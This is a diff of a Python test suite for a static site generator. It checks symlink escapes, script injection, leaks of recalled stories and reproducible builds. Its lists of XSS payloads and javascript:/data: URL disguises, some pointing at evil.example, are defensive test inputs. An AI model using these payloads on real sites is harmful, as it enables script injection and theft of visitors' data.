@@ -1,4 +1,4 @@
-"""What hostile or careless content must not do: climb out of a folder, run a script, leak a story before its time, or leave half a site behind."""
+"""What hostile or careless content must not do: leave its folder, run a script, leak a story, or leave half a site behind."""
 
 import contextlib
 import datetime as dt
@@ -55,13 +55,26 @@ def linked(site: MakeSite, tmp_path: Path) -> Site:
 @pytest.mark.parametrize(
     ("path", "target"),
     [
-        ("content/world/b.md", "secret.md"), ("content/world/b", ""), ("content/media", ""), ("content/world/b.png", "secret.png"), ("static/b.txt", "secret.txt"),
-        ("static/b", ""), ("static", ""), ("layouts/story.html", "secret.html"), ("layouts/assets/b.txt", "secret.txt"), ("layouts/blocks", ""), ("layouts", ""),
-        ("data/b.yaml", "secret.yaml"), ("data/b", ""), ("data", ""),
+        ("content/world/b.md", "secret.md"),
+        ("content/world/b", ""),
+        ("content/media", ""),
+        ("content/world/b.png", "secret.png"),
+        ("static/b.txt", "secret.txt"),
+        ("static/b", ""),
+        ("static", ""),
+        ("layouts/story.html", "secret.html"),
+        ("layouts/assets/b.txt", "secret.txt"),
+        ("layouts/blocks", ""),
+        ("layouts", ""),
+        ("data/b.yaml", "secret.yaml"),
+        ("data/b", ""),
+        ("data", ""),
     ],
-)  # fmt: skip
+)
 @pytest.mark.parametrize("relative", [True, False])
-def test_a_link_out_of_the_site_is_an_error_and_nothing_behind_it_is_published(linked: Site, path: str, target: str, relative: bool) -> None:
+def test_a_link_out_of_the_site_is_an_error_and_nothing_behind_it_is_published(
+    linked: Site, path: str, target: str, relative: bool
+) -> None:
     link, aim = linked.root / path, linked.root.parent / "secrets" / target
     link.parent.mkdir(parents=True, exist_ok=True)
     link.symlink_to(os.path.relpath(aim, link.parent) if relative else aim)
@@ -95,13 +108,16 @@ def test_a_link_inside_the_site_is_followed(linked: Site) -> None:
     assert linked.has("media/pier.png")
 
 
-@pytest.mark.parametrize("links", [{"a": "."}, {"a": "../world"}, {"a": "a"}, {"a": "b", "b": "a"}, {"a/b": "..", "c/d": "../a"}])
+@pytest.mark.parametrize(
+    "links", [{"a": "."}, {"a": "../world"}, {"a": "a"}, {"a": "b", "b": "a"}, {"a/b": "..", "c/d": "../a"}]
+)
 def test_links_in_a_circle_end(linked: Site, links: dict[str, str]) -> None:
     for path, target in links.items():
         link = linked.root / "content/world" / path
         link.parent.mkdir(parents=True, exist_ok=True)
         link.symlink_to(target)
-    assert codes(linked) <= {"symlink", "url-collision"} and "symlink" in codes(linked)
+    assert codes(linked) <= {"symlink", "url-collision"}
+    assert "symlink" in codes(linked)
 
 
 def test_a_few_links_cannot_stand_for_millions_of_files(linked: Site) -> None:
@@ -122,14 +138,21 @@ def test_a_link_in_the_output_cannot_make_the_build_write_elsewhere(linked: Site
     (linked.root / "build/world").symlink_to("../../secrets")
     with pytest.raises(OutputError, match="symbolic link"):
         linked.build()
-    assert {path.name for path in (linked.root.parent / "secrets").iterdir()} == {f"secret.{suffix}" for suffix in ("md", "png", "html", "yaml", "txt")}
+    assert {path.name for path in (linked.root.parent / "secrets").iterdir()} == {
+        f"secret.{suffix}" for suffix in ("md", "png", "html", "yaml", "txt")
+    }
 
 
 def ssg_command(*arguments: object, **environment: str) -> subprocess.CompletedProcess[str]:
     return subprocess.run(
-        [sys.executable, "-m", "ssg", *map(str, arguments)], cwd=REPOSITORY, env=os.environ | {"NO_COLOR": "1"} | environment, capture_output=True,
-        text=True, timeout=120, check=False,
-    )  # fmt: skip
+        [sys.executable, "-m", "ssg", *map(str, arguments)],
+        cwd=REPOSITORY,
+        env=os.environ | {"NO_COLOR": "1"} | environment,
+        capture_output=True,
+        text=True,
+        timeout=120,
+        check=False,
+    )
 
 
 def test_a_build_folder_that_is_a_link_out_of_the_site_must_be_named(linked: Site) -> None:
@@ -164,19 +187,47 @@ def test_a_list_of_files_that_came_with_the_site_cannot_make_the_build_delete_ot
 # ---- scripts
 
 DISGUISES = [
-    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)",
-    "javascript&colon;alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "&amp;#106;avascript:alert(1)", "\u200bjavascript:alert(1)",
-    "vbscript:msgbox(1)", "data:text/html;base64,PHNjcmlwdD4=", "DATA:text/html,x", "blob:https://x/1", "file:///etc/passwd", "view-source:javascript:1",
-]  # fmt: skip
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    " javascript:alert(1)",
+    "java\tscript:alert(1)",
+    "&#106;avascript:alert(1)",
+    "&#x6A;avascript:alert(1)",
+    "javascript&colon;alert(1)",
+    "java&Tab;script:alert(1)",
+    "java&NewLine;script:alert(1)",
+    "&amp;#106;avascript:alert(1)",
+    "\u200bjavascript:alert(1)",
+    "vbscript:msgbox(1)",
+    "data:text/html;base64,PHNjcmlwdD4=",
+    "DATA:text/html,x",
+    "blob:https://x/1",
+    "file:///etc/passwd",
+    "view-source:javascript:1",
+]
 PLACES = {
-    "link": "[x]({})", "link in brackets": "[x](<{}>)", "reference": "[x][r]\n\n[r]: {}", "reference in brackets": "[x][r]\n\n[r]: <{}>", "picture": "![x]({})",
-    "raw link": 'a <a href="{}">x</a>', "raw link in single quotes": "a <a href='{}'>x</a>", "raw link behind a title": 'a <a title=">" href="{}">x</a>',
-    "raw block": '<div>\n<a/href="{}">x</a>\n</div>', "raw picture": '<img src="{}" alt="">', "form": '<form action="{}"></form>', "attribute list": 'a [x](http://x.example/){{: href="{}" }}',
-    "SVG": '<svg><a xlink:href="{}"><text>x</text></a></svg>', "object": '<object data="{}"></object>', "button": '<button formaction="{}">x</button>',
-    "raw link, no space": '<div>\n<a title="x"href="{}">x</a>\n</div>', "raw link, capitals": '<div>\n<A HREF="{}">x</A>\n</div>',
-}  # fmt: skip
+    "link": "[x]({})",
+    "link in brackets": "[x](<{}>)",
+    "reference": "[x][r]\n\n[r]: {}",
+    "reference in brackets": "[x][r]\n\n[r]: <{}>",
+    "picture": "![x]({})",
+    "raw link": 'a <a href="{}">x</a>',
+    "raw link in single quotes": "a <a href='{}'>x</a>",
+    "raw link behind a title": 'a <a title=">" href="{}">x</a>',
+    "raw block": '<div>\n<a/href="{}">x</a>\n</div>',
+    "raw picture": '<img src="{}" alt="">',
+    "form": '<form action="{}"></form>',
+    "attribute list": 'a [x](http://x.example/){{: href="{}" }}',
+    "SVG": '<svg><a xlink:href="{}"><text>x</text></a></svg>',
+    "object": '<object data="{}"></object>',
+    "button": '<button formaction="{}">x</button>',
+    "raw link, no space": '<div>\n<a title="x"href="{}">x</a>\n</div>',
+    "raw link, capitals": '<div>\n<A HREF="{}">x</A>\n</div>',
+}
 _TAG = re.compile(r"""<[a-zA-Z](?:[^>"']|"[^"]*"|'[^']*')*>""")
-_VALUE = re.compile(r"""[\s/"'](href|src|action|formaction|data|xlink:href|poster)\s*=\s*("[^"]*"|'[^']*'|[^\s>]+)""", re.I)
+_VALUE = re.compile(
+    r"""[\s/"'](href|src|action|formaction|data|xlink:href|poster)\s*=\s*("[^"]*"|'[^']*'|[^\s>]+)""", re.I
+)
 
 
 def unsafe_addresses(page: str) -> list[str]:
@@ -186,7 +237,8 @@ def unsafe_addresses(page: str) -> list[str]:
 
 
 def test_the_search_for_unsafe_addresses_finds_one() -> None:
-    assert unsafe_addresses("<a title='x'href=\" java&#9;script:1\">") and not unsafe_addresses("<p>javascript:1</p>")
+    assert unsafe_addresses("<a title='x'href=\" java&#9;script:1\">")
+    assert not unsafe_addresses("<p>javascript:1</p>")
 
 
 @pytest.mark.parametrize("trusted", [True, False])
@@ -197,7 +249,9 @@ def test_no_disguise_of_a_script_gets_into_a_link(place: str, trusted: bool) -> 
         source = SourceFile(STORY, PLACES[place].format(disguise))
         converted = converter.convert(source, 0, lang="en", trusted=trusted)
         assert unsafe_addresses(converted.body.html) == [], disguise
-        addresses = [link.target for link in converted.body.links] + [picture.src for picture in converted.body.pictures]
+        addresses = [link.target for link in converted.body.links] + [
+            picture.src for picture in converted.body.pictures
+        ]
         assert [address for address in addresses if unsafe_scheme(address)] == []
 
 
@@ -211,18 +265,36 @@ def test_a_link_that_would_run_a_script_is_an_error_at_its_line(site: MakeSite, 
 @pytest.mark.parametrize(
     "fields",
     [
-        {"byline": "\n  - {name: Ana, url: 'URL'}"}, {"source": "{name: AP, url: 'URL'}"}, {"related": "[{title: x, url: 'URL'}]"},
+        {"byline": "\n  - {name: Ana, url: 'URL'}"},
+        {"source": "{name: AP, url: 'URL'}"},
+        {"related": "[{title: x, url: 'URL'}]"},
         {"contributors": "[{name: Ana, url: 'URL'}]"},
     ],
     ids=["byline", "source", "related", "contributors"],
-)  # fmt: skip
+)
 def test_no_address_in_the_front_matter_may_run_a_script(site: MakeSite, fields: dict[str, str]) -> None:
-    for disguise in ("javascript:alert(1)", "JAVASCRIPT://x.example/%0aalert(1)", "data:text/html,x", "vbscript:x", "//x.example/", "java&#115;cript:1", "ftp://x.example/"):
-        made = site(f"-- {STORY} --\n" + story(**{key: value.replace("URL", disguise) for key, value in fields.items()}))
+    for disguise in (
+        "javascript:alert(1)",
+        "JAVASCRIPT://x.example/%0aalert(1)",
+        "data:text/html,x",
+        "vbscript:x",
+        "//x.example/",
+        "java&#115;cript:1",
+        "ftp://x.example/",
+    ):
+        made = site(
+            f"-- {STORY} --\n" + story(**{key: value.replace("URL", disguise) for key, value in fields.items()})
+        )
         assert "wrong-url" in codes(made), disguise
 
 
-@pytest.mark.parametrize("block", ["/// related\n    stories: [{title: x, url: 'URL'}]\n///", "/// related\n    stories: {title: x, url: 'URL'}\n///"])
+@pytest.mark.parametrize(
+    "block",
+    [
+        "/// related\n    stories: [{title: x, url: 'URL'}]\n///",
+        "/// related\n    stories: {title: x, url: 'URL'}\n///",
+    ],
+)
 def test_no_address_in_the_options_of_a_block_may_run_a_script(site: MakeSite, block: str) -> None:
     for disguise in ("javascript:alert(1)", " JaVaScript:alert(1)", "data:text/html,x"):
         made = site(f"-- {STORY} --\n" + story(body=block.replace("URL", disguise)))
@@ -232,24 +304,57 @@ def test_no_address_in_the_options_of_a_block_may_run_a_script(site: MakeSite, b
 def test_an_embed_whose_address_is_no_web_address_has_no_link(site: MakeSite) -> None:
     made = site(f"-- {STORY} --\n" + story(body="/// embed | javascript:alert(1)\nx\n///"))
     made.build()
-    assert unsafe_addresses("".join(text.decode() for path, text in made.files().items() if path.endswith("html"))) == []
+    assert (
+        unsafe_addresses("".join(text.decode() for path, text in made.files().items() if path.endswith("html"))) == []
+    )
 
 
 ATTACKS = [
-    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
-    "<body onload=alert(1)>", "<iframe src=//evil.example></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=x></object>", "<embed src=x>",
-    "<form action=//evil.example><input name=a></form>", "<style>@import '//evil.example'</style>", "<link rel=stylesheet href=//evil.example>", "<base href=//evil.example>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<math><mi xlink:href='javascript:1'>x</mi></math>", "<details open ontoggle=alert(1)>x</details>",
-    "<a href=x onclick=alert(1)>x</a>", "<p style='background:url(//evil.example)'>x</p>", "[x](http://x.example/){: onclick=\"alert(1)\" style=\"color:red\" }",
-    "## Heading {: onmouseover=\"alert(1)\" }", "*a*{: onclick=\"alert(1)\" }", "a paragraph\n{: onclick=\"alert(1)\" }", "<template><script>1</script></template>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>", "<![CDATA[<script>alert(1)</script>]]>", "<?php alert(1) ?>", "<xmp><script>1</script></xmp>",
-]  # fmt: skip
-_SCRIPTED = re.compile(r"<(script|style|iframe|object|embed|form|link|base|meta|svg|math|template|xmp|input)\b|<[^>]*\s(on\w+|style|srcdoc)\s*=", re.I)
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<body onload=alert(1)>",
+    "<iframe src=//evil.example></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data=x></object>",
+    "<embed src=x>",
+    "<form action=//evil.example><input name=a></form>",
+    "<style>@import '//evil.example'</style>",
+    "<link rel=stylesheet href=//evil.example>",
+    "<base href=//evil.example>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<math><mi xlink:href='javascript:1'>x</mi></math>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<a href=x onclick=alert(1)>x</a>",
+    "<p style='background:url(//evil.example)'>x</p>",
+    '[x](http://x.example/){: onclick="alert(1)" style="color:red" }',
+    '## Heading {: onmouseover="alert(1)" }',
+    '*a*{: onclick="alert(1)" }',
+    'a paragraph\n{: onclick="alert(1)" }',
+    "<template><script>1</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?php alert(1) ?>",
+    "<xmp><script>1</script></xmp>",
+]
+_SCRIPTED = re.compile(
+    r"<(script|style|iframe|object|embed|form|link|base|meta|svg|math|template|xmp|input)\b|<[^>]*\s(on\w+|style|srcdoc)\s*=",
+    re.I,
+)
 
 
 @pytest.mark.parametrize("attack", ATTACKS)
 def test_nothing_that_runs_survives_in_a_story_of_a_source_that_is_not_trusted(attack: str) -> None:
-    for body in (attack, f"Words. {attack} More words.", f"<div>\n{attack}\n</div>", f"/// fact-box\n{attack}\n///", f"- {attack}", f"> {attack}"):
+    for body in (
+        attack,
+        f"Words. {attack} More words.",
+        f"<div>\n{attack}\n</div>",
+        f"/// fact-box\n{attack}\n///",
+        f"- {attack}",
+        f"> {attack}",
+    ):
         converted = Converter(("fact-box",)).convert(SourceFile(STORY, body), 0, lang="en", trusted=False)
         assert not _SCRIPTED.search(re.sub("<!--.*?-->", "", converted.body.html)), converted.body.html
 
@@ -258,19 +363,68 @@ def test_a_source_is_trusted_only_if_site_yaml_says_so(site: MakeSite) -> None:
     made = site()
     config = (made.root / "site.yaml").read_text() + "sources:\n  ours: {trusted: true}\n  theirs: {}\n"
     (made.root / "site.yaml").write_text(config)
-    for name, source in {"own": {}, "ours": {"source": "ours"}, "theirs": {"source": "theirs"}, "unknown": {"source": "who"}}.items():
+    for name, source in {
+        "own": {},
+        "ours": {"source": "ours"},
+        "theirs": {"source": "theirs"},
+        "unknown": {"source": "who"},
+    }.items():
         made.write(f"-- content/world/{name}.md --\n" + story(body="<b onclick=alert(1)>bold</b> words", **source))
     made.build()
     assert {name: "onclick" in page_of(made, name) for name in ("own", "ours", "theirs", "unknown")} == {
-        "own": True, "ours": True, "theirs": False, "unknown": False,
-    }  # fmt: skip
+        "own": True,
+        "ours": True,
+        "theirs": False,
+        "unknown": False,
+    }
 
 
 PIECES = [
-    "para ", "\n\n/// fact-box\n", "\n///\n\n", "<script>", "</script>", "<style>", "</style>", "<table>", "<tr><td>", "</table>", "<svg>", "<math>", "<template>", "</template>",
-    "<html>", "<head>", "<select>", "<option>", "</select>", "<div>", "\n<div>\n", "</div>", "<!--", "-->", "<textarea>", "</textarea>", "<title>", "</title>", "<a href='x.md'>",
-    "</a>", '<b title="', '">', "`", "<mtext>", "</svg>", "<form>", "<col>", "<![CDATA[", "]]>", "<?x", "<iframe>", "\n\n", "[x](y.md)", "![a](b.png)",
-]  # fmt: skip
+    "para ",
+    "\n\n/// fact-box\n",
+    "\n///\n\n",
+    "<script>",
+    "</script>",
+    "<style>",
+    "</style>",
+    "<table>",
+    "<tr><td>",
+    "</table>",
+    "<svg>",
+    "<math>",
+    "<template>",
+    "</template>",
+    "<html>",
+    "<head>",
+    "<select>",
+    "<option>",
+    "</select>",
+    "<div>",
+    "\n<div>\n",
+    "</div>",
+    "<!--",
+    "-->",
+    "<textarea>",
+    "</textarea>",
+    "<title>",
+    "</title>",
+    "<a href='x.md'>",
+    "</a>",
+    '<b title="',
+    '">',
+    "`",
+    "<mtext>",
+    "</svg>",
+    "<form>",
+    "<col>",
+    "<![CDATA[",
+    "]]>",
+    "<?x",
+    "<iframe>",
+    "\n\n",
+    "[x](y.md)",
+    "![a](b.png)",
+]
 
 
 @settings(max_examples=200, deadline=None)
@@ -294,9 +448,12 @@ def test_an_element_that_would_swallow_the_rest_of_the_page_is_an_error_at_its_l
 
 def test_other_html_that_is_not_closed_is_a_warning(site: MakeSite) -> None:
     made = site(f"-- {STORY} --\n" + story(body="<div>\nleft open\n\n</section>\n"))
-    assert [(problem.code, str(problem.severity), problem.span.line) for problem in made.build(destination=None).problems] == [
-        ("unclosed-block", "warning", 6), ("unclosed-block", "warning", 9),
-    ]  # fmt: skip
+    assert [
+        (problem.code, str(problem.severity), problem.span.line) for problem in made.build(destination=None).problems
+    ] == [
+        ("unclosed-block", "warning", 6),
+        ("unclosed-block", "warning", 9),
+    ]
 
 
 # ---- markup in the fields
@@ -333,9 +490,17 @@ def evil(tmp_path_factory: pytest.TempPathFactory) -> Site:
 
     root = tmp_path_factory.mktemp("evil")
     made = Site(root)
-    named = dressed("title: EVIL site\ndescription: EVIL about\ncopyright: EVIL line\ncontact: EVIL desk\npublisher: {name: EVIL house}\nsections: {world: {title: EVIL World, description: EVIL about}}\nsocial: {x: EVIL}\n")
-    (root / "site.yaml").write_text(f"base_url: https://ledger.example/\nshare: [facebook, x, email, pinterest, reddit, mastodon]\n{named}")
-    made.write(f"-- content/world/p.png --\n-- {STORY} --\n---\n{dressed('title: EVIL headline')}\ndate: 2026-11-20{dressed(EVERY_FIELD)}---\n\nWords with ]]> in them.\n")
+    named = dressed(
+        "title: EVIL site\ndescription: EVIL about\ncopyright: EVIL line\ncontact: EVIL desk\npublisher: {name: EVIL house}\n"
+        "sections: {world: {title: EVIL World, description: EVIL about}}\nsocial: {x: EVIL}\n"
+    )
+    (root / "site.yaml").write_text(
+        f"base_url: https://ledger.example/\nshare: [facebook, x, email, pinterest, reddit, mastodon]\n{named}"
+    )
+    made.write(
+        f"-- content/world/p.png --\n-- {STORY} --\n---\n{dressed('title: EVIL headline')}\ndate: 2026-11-20"
+        f"{dressed(EVERY_FIELD)}---\n\nWords with ]]> in them.\n"
+    )
     made.write("-- content/world/b.md --\n" + story("A second story", body="/// related\n    stories: [a.md]\n///"))
     assert made.build().errors == 0, made.problems()
     return made
@@ -349,11 +514,16 @@ def test_markup_in_a_field_is_text_on_every_page(evil: Site) -> None:
             assert attack not in page, (path, attack)
         scripts = re.findall(r"<script\b[^>]*>(.*?)</script>", page, re.S)
         assert all("<" not in script and json.loads(script) for script in scripts), path
-        assert "<!--" not in page and not re.search(r"\son\w+\s*=", "".join(re.findall(r"<[a-z][^<>]*>", re.sub(r'"[^"]*"', '""', page)))), path
+        tags = "".join(re.findall(r"<[a-z][^<>]*>", re.sub(r'"[^"]*"', '""', page)))
+        assert "<!--" not in page, path
+        assert not re.search(r"\son\w+\s*=", tags), path
 
 
 def test_markup_in_a_field_reaches_json_ld_word_for_word(evil: Site) -> None:
-    blocks = [json.loads(text) for text in re.findall(r'<script type="application/ld\+json">(.*?)</script>', page_of(evil), re.S)]
+    blocks = [
+        json.loads(text)
+        for text in re.findall(r'<script type="application/ld\+json">(.*?)</script>', page_of(evil), re.S)
+    ]
     (article,) = (block for block in blocks if block["@type"] == "NewsArticle")
     assert article["headline"].startswith("</script><script>alert(1)</script>")
     assert article["image"][0]["caption"] == f"{EVIL} caption"
@@ -369,13 +539,18 @@ def test_markup_in_a_field_is_text_in_every_feed_and_sitemap(evil: Site) -> None
         assert not any(element.tag.endswith(("script", "img", "}b")) for element in tree.iter()), path
     titles = [element.text for element in ElementTree.fromstring(feeds["feed.xml"]).iter("title")]
     assert f"{EVIL} headline" in titles
-    assert "Words with ]]&gt; in them." in feeds["feed.xml"].decode().replace("]]]]><![CDATA[>", "]]>") or b"]]]]><![CDATA[>" in feeds["feed.xml"]
+    assert (
+        "Words with ]]&gt; in them." in feeds["feed.xml"].decode().replace("]]]]><![CDATA[>", "]]>")
+        or b"]]]]><![CDATA[>" in feeds["feed.xml"]
+    )
 
 
 def test_share_links_and_addresses_cannot_be_left(evil: Site) -> None:
     page = page_of(evil)
     for href in re.findall(r'href="([^"]*)"', page):
-        assert "<" not in href and "'" not in html.unescape(href).replace("%27", "") or href.startswith("https://x.example/")
+        assert ("<" not in href and "'" not in html.unescape(href).replace("%27", "")) or href.startswith(
+            "https://x.example/"
+        )
     assert unsafe_addresses(page) == []
 
 
@@ -383,7 +558,8 @@ def test_share_links_and_addresses_cannot_be_left(evil: Site) -> None:
 @given(st.text(max_size=40) | st.sampled_from(["</script>", "<!--", "]]>", "\u2028", "</ScRiPt >"]))
 def test_no_text_breaks_out_of_a_script_element(text: str) -> None:
     shown = script_json({"a": text})
-    assert "<" not in shown and json.loads(shown) == {"a": text}
+    assert "<" not in shown
+    assert json.loads(shown) == {"a": text}
 
 
 def test_the_editors_note_is_published_nowhere(site: MakeSite) -> None:
@@ -454,7 +630,7 @@ def newsroom() -> str:
 def leaky(tmp_path_factory: pytest.TempPathFactory) -> Site:
     made = Site(tmp_path_factory.mktemp("leaky")).write(newsroom())
     made.build()
-    assert made.report and made.report.errors == 0, made.problems()
+    assert made.problems() == [line for line in made.problems() if " error[" not in line]
     return made
 
 
@@ -477,8 +653,15 @@ def test_of_a_recalled_story_only_its_address_remains(leaky: Site, state: str) -
     address = {f"{state}zqslug", f"zqsec{state}", f"zqalias{state}"}  # whoever comes by a former address is told too
     source = {f"{state}zqurl", f"zqsource{state}"} if state == "expired" else set()
     assert traces(leaky, state) <= address | source
-    holders = {path for path, content in leaky.files().items() if f"{state}zqslug" in path or f"{state}zqslug" in content.decode("utf-8", "replace")}
-    assert {path.split("/")[0] for path in holders if not path.endswith((".xml", ".json"))} == {f"zqsec{state}", f"zqalias{state}"}
+    holders = {
+        path
+        for path, content in leaky.files().items()
+        if f"{state}zqslug" in path or f"{state}zqslug" in content.decode("utf-8", "replace")
+    }
+    assert {path.split("/")[0] for path in holders if not path.endswith((".xml", ".json"))} == {
+        f"zqsec{state}",
+        f"zqalias{state}",
+    }
     assert "robots" in leaky.read(f"zqsec{state}/2026/11/{state}zqslug/")
 
 
@@ -494,7 +677,14 @@ def test_the_search_for_traces_finds_them_when_the_story_is_live(leaky: Site) ->
         leaky.build(destination=other, **built)
         seen = Site(leaky.root)
         seen.out = other
-        assert {f"zqtitle{state}", f"zqpicture{state}", f"zqauthor{state}", f"zqtag{state}", f"zqbody{state}", f"zqcaption{state}"} <= traces(seen, state)
+        assert {
+            f"zqtitle{state}",
+            f"zqpicture{state}",
+            f"zqauthor{state}",
+            f"zqtag{state}",
+            f"zqbody{state}",
+            f"zqcaption{state}",
+        } <= traces(seen, state)
         assert not traces(seen, "killed") - {"killedzqslug", "zqseckilled", "zqaliaskilled"}
 
 
@@ -502,7 +692,9 @@ def test_when_a_story_is_killed_all_that_was_published_of_it_goes(site: MakeSite
     text = canaries("killed").replace("status: killed", "status: usable")
     made = site(text + f"-- {STORY} --\n" + story("A live story", tags="[shared]"))
     made.build()
-    assert made.has("zqseckilled/2026/11/killedzqslug/") and made.has("media/zqseckilled/zqpicturekilled.png") and made.has("zqaliaskilled/")
+    assert made.has("zqseckilled/2026/11/killedzqslug/")
+    assert made.has("media/zqseckilled/zqpicturekilled.png")
+    assert made.has("zqaliaskilled/")
     made.write(canaries("killed"))
     report = made.build()
     assert report.published.removed >= 7
@@ -533,6 +725,9 @@ def large(tmp_path_factory: pytest.TempPathFactory) -> Path:
     made = Site(tmp_path_factory.mktemp("large"))
     body = "\n\n".join(f"The *council* put it off, paragraph {n}." for n in range(10))
     made.write("-- content/world/first.md --\n" + story())
+    # A layout that is slow on purpose, so that there is time to break off the build on a fast machine too.
+    slow = "<!doctype html><title>{{ page.title }}</title>{% for n in range(150000) %}{% endfor %}{{ story.body }}"
+    made.write(f"-- layouts/story.html --\n{slow}\n")
     for n in range(420):
         (made.root / f"content/world/s{n}.md").write_text(story(f"Vote {n}", body=body))
     return made.root
@@ -541,7 +736,15 @@ def large(tmp_path_factory: pytest.TempPathFactory) -> Path:
 def start(root: Path, *arguments: str) -> subprocess.Popen[str]:
     environment = os.environ | {"NO_COLOR": "1", "SOURCE_DATE_EPOCH": "1795348800"}
     command = [sys.executable, "-m", "ssg", "build", "-s", str(root), "--jobs", "2", *arguments]
-    return subprocess.Popen(command, cwd=REPOSITORY, env=environment, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, start_new_session=True)
+    return subprocess.Popen(
+        command,
+        cwd=REPOSITORY,
+        env=environment,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+        start_new_session=True,
+    )
 
 
 def processes_of(group: int) -> list[int]:
@@ -566,7 +769,9 @@ def wait_until(happened: Callable[[], bool], seconds: float = 40) -> bool:
 
 @pytest.mark.skipif(not Path("/proc").is_dir(), reason="processes are looked up in /proc")
 @pytest.mark.parametrize("how", [signal.SIGINT, signal.SIGKILL])
-def test_a_build_that_is_broken_off_leaves_the_old_site_and_no_process_and_the_next_one_is_whole(large: Path, tmp_path: Path, how: signal.Signals) -> None:
+def test_a_build_that_is_broken_off_leaves_the_old_site_and_no_process_and_the_next_one_is_whole(
+    large: Path, tmp_path: Path, how: signal.Signals
+) -> None:
     made = Site(tmp_path / "site")
     shutil.copytree(large, made.root, ignore=shutil.ignore_patterns("build", ".ssg"))
     made.write("-- build/index.html --\nthe old site\n")
@@ -580,7 +785,8 @@ def test_a_build_that_is_broken_off_leaves_the_old_site_and_no_process_and_the_n
     assert made.files() == before
     assert wait_until(lambda: not processes_of(process.pid)), "a worker is still there"
     if how is signal.SIGINT:
-        assert "nothing was published" in errors and not (made.root / ".ssg/stage").exists()
+        assert "nothing was published" in errors
+        assert not (made.root / ".ssg/stage").exists()
     done = ssg_command("build", "-s", made.root, "-q", SOURCE_DATE_EPOCH="1795348800")
     assert done.returncode == 0, done.stderr
     assert not (made.root / ".ssg/stage").exists()
@@ -613,10 +819,18 @@ def test_a_worker_that_is_killed_stops_the_build_with_a_sentence(linked: Site) -
     script = (
         "import os, signal, ssg.build, ssg.cli, ssg.tasks\nssg.build._PARALLEL_FROM = 1\n"
         "def render_page(*_): os.kill(os.getpid(), signal.SIGKILL)\nssg.tasks.render_page = render_page\n"
-    )  # fmt: skip
-    done = subprocess.run([sys.executable, "-c", script + "ssg.cli.main()", "build", "-s", str(linked.root), "--jobs", "2"],
-                          cwd=REPOSITORY, capture_output=True, text=True, timeout=100, check=False)  # fmt: skip
-    assert (done.returncode, "Traceback" in done.stderr, "nothing was published" in done.stderr) == (2, False, True), done.stderr
+    )
+    done = subprocess.run(
+        [sys.executable, "-c", script + "ssg.cli.main()", "build", "-s", str(linked.root), "--jobs", "2"],
+        cwd=REPOSITORY,
+        capture_output=True,
+        text=True,
+        timeout=100,
+        check=False,
+    )
+    assert (done.returncode, "Traceback" in done.stderr, "nothing was published" in done.stderr) == (2, False, True), (
+        done.stderr
+    )
 
 
 # ---- the same bytes everywhere
@@ -624,8 +838,12 @@ def test_a_worker_that_is_killed_stops_the_build_with_a_sentence(linked: Site) -
 
 def copy_of(root: Path, target: Path, seed: int) -> Path:
     """The same site elsewhere, its files made in another order and at other times."""
-    files = sorted(path for path in root.rglob("*") if path.is_file() and not {"build", ".ssg"} & set(path.relative_to(root).parts))
-    for number, path in enumerate(sorted(files, key=lambda path: str(path)[::-1] if seed % 2 else str(path), reverse=bool(seed & 2))):
+    files = sorted(
+        path for path in root.rglob("*") if path.is_file() and not {"build", ".ssg"} & set(path.relative_to(root).parts)
+    )
+    for number, path in enumerate(
+        sorted(files, key=lambda path: str(path)[::-1] if seed % 2 else str(path), reverse=bool(seed & 2))
+    ):
         made = target / path.relative_to(root)
         made.parent.mkdir(parents=True, exist_ok=True)
         made.write_bytes(path.read_bytes())
@@ -641,21 +859,48 @@ _SCRIPT = "import ssg.build, ssg.cli\nssg.build._PARALLEL_FROM = 1\nssg.build._G
     [
         (1, 1, {"PYTHONHASHSEED": "0", "TZ": "UTC", "LC_ALL": "C"}),
         (2, 2, {"PYTHONHASHSEED": "1", "TZ": "Pacific/Kiritimati", "LC_ALL": "C.UTF-8"}),
-        (3, 3, {"PYTHONHASHSEED": "2", "TZ": "America/St_Johns", "LC_ALL": "POSIX", "LANG": "de_DE.UTF-8", "HOME": "/nonexistent"}),
+        (
+            3,
+            3,
+            {
+                "PYTHONHASHSEED": "2",
+                "TZ": "America/St_Johns",
+                "LC_ALL": "POSIX",
+                "LANG": "de_DE.UTF-8",
+                "HOME": "/nonexistent",
+            },
+        ),
     ],
     ids=["one process", "two processes", "three processes"],
 )
-def test_the_output_is_the_same_for_every_machine_clock_and_order_of_files(leaky: Site, tmp_path: Path, seed: int, jobs: int, environment: dict[str, str]) -> None:
+def test_the_output_is_the_same_for_every_machine_clock_and_order_of_files(
+    leaky: Site, tmp_path: Path, seed: int, jobs: int, environment: dict[str, str]
+) -> None:
     root = copy_of(leaky.root, tmp_path / "a place" / f"n\u00b0{seed}", seed)
     shutil.rmtree(root / "build", ignore_errors=True)
     for extra in root.glob("open-*"):
         shutil.rmtree(extra)
-    command = [sys.executable, "-c", _SCRIPT, "build", "-s", str(root), "--jobs", str(jobs), "--at", NOW.isoformat(), "-q"]
-    done = subprocess.run(command, cwd=REPOSITORY, env=os.environ | environment, capture_output=True, text=True, timeout=100, check=False)
+    command = [
+        sys.executable,
+        "-c",
+        _SCRIPT,
+        "build",
+        "-s",
+        str(root),
+        "--jobs",
